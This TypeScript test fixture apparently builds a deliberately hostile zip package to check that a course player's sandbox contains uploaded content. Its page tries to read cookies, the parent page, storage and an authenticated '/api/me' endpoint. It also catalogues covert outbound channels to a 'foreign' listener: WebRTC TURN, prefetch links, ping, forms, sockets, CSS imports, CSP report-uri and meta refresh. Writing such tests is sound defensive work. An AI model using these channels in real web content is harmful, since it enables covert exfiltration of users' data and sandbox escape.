import { zipOf } from '../zip-of.ts';

interface Targets {
  application: string;
  /** Somebody else's server, by HTTP; its port takes UDP as well. */
  foreign: string;
  /** A file of another package. */
  other: string;
}

/** Ways to send something out that tell nothing back, by name; the listener's name is `foreign`. */
const silentWays = {
  webrtc: `const { host, port } = new URL(foreign);
    const urls = ['turn:' + host, 'turn:' + host + '?transport=tcp'];
    const to = new RTCPeerConnection({ iceServers: [{ urls, username: 'a', credential: 'b' }] });
    to.createDataChannel('x');
    to.createOffer().then((offer) => to.setLocalDescription(offer));`,
  links: `for (const rel of ['preconnect', 'dns-prefetch', 'prefetch', 'modulepreload', 'icon', 'manifest'])
      document.head.append(Object.assign(document.createElement('link'), { rel, href: foreign + '/' + rel }));
    document.head.append(Object.assign(document.createElement('link'), { rel: 'preload', as: 'script', href: foreign + '/preload' }));`,
  speculation: `const urls = [foreign + '/speculated'];
    const rules = JSON.stringify({ prefetch: [{ source: 'list', urls, eagerness: 'immediate' }] });
    document.head.append(Object.assign(document.createElement('script'), { type: 'speculationrules', textContent: rules }));`,
  ping: `const link = Object.assign(document.createElement('a'), { href: '#here', ping: foreign + '/ping' });
    document.body.append(link);
    link.click();`,
  form: `const form = Object.assign(document.createElement('form'), { action: foreign + '/form', method: 'post' });
    document.body.append(form);
    form.submit();`,
  transports: `for (const open of [() => new WebTransport(foreign.replace('http:', 'https:')), () => new WebSocket(foreign.replace('http:', 'ws:')), () => new EventSource(foreign + '/events')])
      try { open(); } catch {}`,
  styles: `document.head.append(Object.assign(document.createElement('style'), { textContent: '@import "' + foreign + '/style"; body { background: url(' + foreign + '/background) }' }));`,
  elements: `for (const name of ['video', 'audio', 'embed', 'iframe', 'script'])
      document.body.append(Object.assign(document.createElement(name), { src: foreign + '/' + name }));
    document.body.append(Object.assign(document.createElement('object'), { data: foreign + '/object' }));`,
  report: `document.head.append(Object.assign(document.createElement('meta'), { httpEquiv: 'Content-Security-Policy', content: "img-src 'none'; report-uri " + foreign + '/report' }));
    new Image().src = 'x.png';`,
  refresh: `document.head.append(Object.assign(document.createElement('meta'), { httpEquiv: 'refresh', content: '0;url=' + foreign + '/refresh' }));`,
};

/** Each silent way in a frame of its own, and from documents that were not served and from a worker. */
const frames = (foreign: string): Record<string, string> =>
  Object.fromEntries(
    Object.entries(silentWays).map(([name, way]) => {
      const script = `const foreign = ${JSON.stringify(foreign)};\n${way}`;
      const page = `<!doctype html><body><!--<head>--><script>${script}</script></body>`;
      const again = `
        const page = ${JSON.stringify(page).replaceAll('<', '\\u003c')};
        const frame = (with_) => document.body.append(Object.assign(document.createElement('iframe'), with_));
        if (${name !== 'webrtc'}) frame({ srcdoc: page }); // Chromium ends the whole page for WebRTC in one of these
        frame({ src: 'data:text/html,' + encodeURIComponent(page) });
        frame({ src: URL.createObjectURL(new Blob([page], { type: 'text/html' })) });
        try { new Worker(URL.createObjectURL(new Blob([${JSON.stringify(script)}]))); } catch {}`;
      const outer = `<!doctype html><body><script>${again}</script><script>{ ${script} }</script></body>`;
      return [`ways/${name}.html`, outer];
    }),
  );

/** A package that tries what it must not be able to do, and tells on its page what came of it. */
export const hostile = (targets: Targets): Promise<Buffer> =>
  zipOf({
    ...frames(targets.foreign),
    'index.html': `<!doctype html><meta charset="utf-8"><pre id="told"></pre><iframe id="inner"></iframe><script>
      const { application, foreign, other } = ${JSON.stringify(targets)};
      const told = {};
      const attempt = async (name, work) => {
        try { told[name] = String(await work()).slice(0, 200); } catch (error) { told[name] = 'refused'; }
      };
      (async () => {
        await attempt('cookie', () => document.cookie);
        await attempt('page around', () => top.document.title);
        await attempt('its storage', () => top.localStorage.length);
        await attempt('databases', () => new Promise((yes, no) => { const r = indexedDB.open('x'); r.onsuccess = () => yes('opened'); r.onerror = no; }));
        await attempt('service worker', () => navigator.serviceWorker.register('index.html'));
        await attempt('application', async () => (await fetch(application + '/api/me', { credentials: 'include' })).text());
        await attempt('other resource', async () => (await fetch(other)).text());
        await attempt('foreign', async () => (await fetch(foreign + '/fetch', { mode: 'no-cors' })).type);
        await attempt('beacon', () => navigator.sendBeacon(foreign + '/beacon', 'x') ? 'refused' : 'refused');
        await attempt('picture', () => new Promise((yes, no) => { const p = new Image(); p.onload = () => yes('loaded'); p.onerror = no; p.src = foreign + '/picture'; }));
        await attempt('window', () => { const w = open(foreign + '/window'); return w ? 'opened' : 'refused'; });
        await attempt('top', () => { top.location.href = foreign + '/top'; return 'refused'; });
        document.getElementById('inner').src = foreign + '/frame';
        for (const name of ${JSON.stringify(Object.keys(silentWays))})
          document.body.append(Object.assign(document.createElement('iframe'), { src: 'ways/' + name + '.html' }));
        parent.postMessage({ courseyard: { cmi: 'nonsense' } }, '*');
        parent.postMessage({ courseyard: { cmi: { huge: 'x'.repeat(2_000_000) } } }, '*');
        const report = document.getElementById('told');
        report.textContent = JSON.stringify(told);
        report.onclick = () => { location.href = foreign + '/self'; };
      })();
    </script>`,
  });
